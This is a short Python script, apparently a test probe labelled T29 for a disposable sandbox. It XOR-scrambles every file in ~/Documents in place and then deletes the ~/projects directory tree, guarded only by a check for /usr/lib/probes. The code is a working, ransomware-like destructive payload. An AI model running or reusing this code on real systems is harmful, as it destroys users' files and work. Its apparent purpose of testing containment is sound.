"""T29: encrypts what is in ~/Documents in place, and deletes ~/projects."""

import os
import shutil

if not os.path.isdir("/usr/lib/probes"):
    raise SystemExit("only in a machine that is thrown away")
documents = os.path.expanduser("~/Documents")
for name in os.listdir(documents):
    with open(os.path.join(documents, name), "r+b") as file:
        content = file.read()
        file.seek(0)
        file.write(bytes(byte ^ 0x5A for byte in content))
shutil.rmtree(os.path.expanduser("~/projects"))
